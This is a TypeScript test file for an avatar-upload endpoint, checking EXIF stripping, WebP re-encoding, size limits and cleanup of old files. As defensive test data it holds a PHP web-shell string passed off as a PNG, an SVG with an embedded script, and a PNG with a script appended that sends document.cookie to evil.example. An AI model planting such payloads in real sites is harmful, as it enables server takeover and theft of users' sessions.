import { mkdtemp, readdir, readFile } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { useTestApp } from '../../../test/test-app.ts';
import { users } from '../../db/schema/index.ts';
import { buildUser } from '../../db/seed/factories.ts';
import { sessionTokenFor } from '../auth/testing.ts';
import { jpegWithExif, multipartBody, pngImage } from './account-test-helpers.ts';

const dataDir = await mkdtemp(path.join(tmpdir(), 'regal-avatar-test-'));
const MAX = 64 * 1024;
const ctx = useTestApp({ DATA_DIR: dataDir, AVATAR_MAX_BYTES: String(MAX) });
let token = '';

beforeAll(async () => {
  token = await sessionTokenFor(ctx.db, await buildUser(ctx.db));
});

async function upload(field: string, filename: string, type: string, data: Buffer) {
  const { body, contentType } = multipartBody(field, filename, type, data);
  return ctx.app.inject({
    method: 'POST',
    url: '/api/auth/user/avatar',
    headers: { authorization: `Bearer ${token}`, 'content-type': contentType },
    payload: body,
  });
}

async function storedAvatar(url: string) {
  const res = await ctx.app.inject({ method: 'GET', url });
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toBe('image/webp');
  return res.rawPayload;
}

describe('avatar upload', () => {
  it('re-encodes a photo to a 256×256 WebP and strips its EXIF', async () => {
    const photo = await jpegWithExif();
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    expect(photo.includes('SECRET-COPYRIGHT')).toBe(true);

    const res = await upload('image', 'holiday.jpg', 'image/jpeg', photo);
    expect(res.statusCode).toBe(200);
    const { user } = res.json();
    expect(user.avatar).toMatch(/^\/api\/media\/avatar\/[a-f0-9]{32}\.webp$/);
    const stored = await storedAvatar(user.avatar);
    const meta = await sharp(stored).metadata();
    expect(meta).toMatchObject({ format: 'webp', width: 256, height: 256 });
    expect(meta.exif).toBeUndefined();
    expect(stored.includes('SECRET-COPYRIGHT')).toBe(false);
    expect(stored.includes('SpyCam')).toBe(false);
  });

  it('refuses a text file named .png and declared image/png', async () => {
    const res = await upload('image', 'avatar.png', 'image/png', Buffer.from('<?php system($_GET["c"]); ?>'));
    expect(res.statusCode).toBe(400);
    expect(res.json().errors.image).toContain('kein unterstütztes Bild');
  });

  it('refuses an SVG even when it is declared as an image', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const res = await upload('image', 'a.svg', 'image/svg+xml', svg);
    expect(res.statusCode).toBe(400);
  });

  it('sanitises a PNG with a script glued to its end: the stored file holds only pixels', async () => {
    const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
    const polyglot = Buffer.concat([await pngImage(), Buffer.from(script)]);
    const res = await upload('image', 'cat.png', 'image/png', polyglot);
    expect(res.statusCode).toBe(200);
    const stored = await storedAvatar(res.json().user.avatar);
    expect(stored.includes('<script>')).toBe(false);
    expect(stored.includes('evil.example')).toBe(false);
  });

  it('answers "Kein Bild ausgewählt" without a file, or with the file under another field', async () => {
    const none = await ctx.app.inject({
      method: 'POST',
      url: '/api/auth/user/avatar',
      headers: { authorization: `Bearer ${token}` },
      payload: {},
    });
    expect(none.statusCode).toBe(400);
    expect(none.json().errors.image).toBe('Kein Bild ausgewählt');
    const wrongField = await upload('document', 'a.png', 'image/png', await pngImage());
    expect(wrongField.json().errors.image).toBe('Kein Bild ausgewählt');
  });

  it('keeps one file per user: the previous avatar is deleted after a new upload', async () => {
    const first = (await upload('image', 'a.png', 'image/png', await pngImage())).json().user.avatar;
    const second = (await upload('image', 'b.png', 'image/png', await pngImage(100, 100))).json().user.avatar;
    expect(second).not.toBe(first);
    const files = await readdir(path.join(dataDir, 'avatars'));
    expect(files).toContain(path.basename(second));
    expect(files).not.toContain(path.basename(first));
    expect((await ctx.app.inject({ method: 'GET', url: first })).statusCode).toBe(404);
  });

  it('concurrent uploads leave exactly one file: the one the account points at (issue 19)', async () => {
    const racer = await buildUser(ctx.db);
    const racerToken = await sessionTokenFor(ctx.db, racer);
    const folder = path.join(dataDir, 'avatars');
    // One upload first, so the race also replaces an existing file.
    const send = async (size: number) => {
      const { body, contentType } = multipartBody('image', 'r.png', 'image/png', await pngImage(size, size));
      return ctx.app.inject({
        method: 'POST',
        url: '/api/auth/user/avatar',
        headers: { authorization: `Bearer ${racerToken}`, 'content-type': contentType },
        payload: body,
      });
    };
    expect((await send(40)).statusCode).toBe(200);
    const before = new Set(await readdir(folder));
    for (let round = 0; round < 3; round++) {
      const answers = await Promise.all([50, 60, 70, 80, 90, 100].map((size) => send(size)));
      expect(answers.map((r) => r.statusCode)).toEqual([200, 200, 200, 200, 200, 200]);
    }
    const [row] = await ctx.db.select().from(users).where(eq(users.id, racer.id));
    const now = await readdir(folder);
    const mine = now.filter((name) => !before.has(name));
    // Every file of the racer's earlier uploads is gone; exactly the current one is new.
    expect(mine).toEqual([path.basename(row?.avatar ?? '')]);
    const earlier = [...before].filter((name) => !now.includes(name));
    expect(earlier).toHaveLength(1);
  });

  it('answers 413 "Bild zu groß." for a declared oversize before reading the body', async () => {
    await ctx.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = ctx.app.server.address() as AddressInfo;
    const socket = connect(port, '127.0.0.1');
    const answer = new Promise<string>((resolve) => {
      let text = '';
      socket.on('data', (chunk) => {
        text += chunk.toString();
      });
      socket.on('close', () => resolve(text));
    });
    // Announce half a gigabyte, send 10 bytes and stop: the answer must come anyway.
    socket.write(
      'POST /api/auth/user/avatar HTTP/1.1\r\nHost: x\r\n' +
        `Authorization: Bearer ${token}\r\nContent-Type: multipart/form-data; boundary=b\r\n` +
        'Content-Length: 500000000\r\n\r\n--b\r\nabcd',
    );
    const text = await Promise.race([
      answer,
      new Promise<string>((r) => setTimeout(() => r('timeout'), 5000)),
    ]);
    socket.destroy();
    expect(text).toMatch(/^HTTP\/1\.1 413/);
    expect(text).toContain('Bild zu gro');
  });

  it('lets a browser that keeps sending a moderately large file read the 413 (no reset)', async () => {
    const { port } = ctx.app.server.address() as AddressInfo;
    const form = new FormData();
    form.append('image', new Blob([new Uint8Array(MAX * 16)], { type: 'image/png' }), 'photo.png');
    const res = await fetch(`http://127.0.0.1:${port}/api/auth/user/avatar`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: form,
    });
    expect(res.status).toBe(413);
    expect(((await res.json()) as { message: string }).message).toBe('Bild zu groß.');
  });

  it('answers 413 for a chunked upload that grows past the limit while streaming', async () => {
    const { port } = ctx.app.server.address() as AddressInfo;
    const big = await sharp({ create: { width: 900, height: 900, channels: 3, background: '#888' } })
      .png({ compressionLevel: 0 })
      .toBuffer();
    expect(big.length).toBeGreaterThan(MAX * 2);
    const { body, contentType } = multipartBody('image', 'big.png', 'image/png', big);
    const status = await new Promise<{ status: number; text: string }>((resolve, reject) => {
      const req = httpRequest(
        {
          port,
          host: '127.0.0.1',
          method: 'POST',
          path: '/api/auth/user/avatar',
          headers: {
            authorization: `Bearer ${token}`,
            'content-type': contentType,
            'transfer-encoding': 'chunked',
          },
        },
        (res) => {
          let text = '';
          res.on('data', (c) => {
            text += c;
          });
          res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
        },
      );
      req.on('error', reject);
      for (let i = 0; i < body.length; i += 16 * 1024) req.write(body.subarray(i, i + 16 * 1024));
      req.end();
    });
    expect(status.status).toBe(413);
    expect(JSON.parse(status.text).message).toBe('Bild zu groß.');
  });

  it('never writes an unreadable upload to disk', async () => {
    const before = await readdir(path.join(dataDir, 'avatars'));
    await upload(
      'image',
      'x.jpg',
      'image/jpeg',
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(100)]),
    );
    expect(await readdir(path.join(dataDir, 'avatars'))).toEqual(before);
    expect((await readFile(path.join(dataDir, 'avatars', before[0] as string))).length).toBeGreaterThan(0);
  });
});
